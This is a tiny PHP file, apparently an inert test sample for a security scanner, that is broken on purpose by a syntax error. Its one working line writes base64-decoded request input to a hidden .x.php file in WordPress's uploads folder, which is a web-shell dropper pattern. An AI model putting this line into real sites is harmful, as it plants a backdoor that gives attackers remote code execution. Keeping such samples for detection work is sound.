<?php
shodo inert sample: deliberate syntax error, this file never runs
file_put_contents(__DIR__ . '/wp-content/uploads/.x.php', base64_decode($_REQUEST['b']));
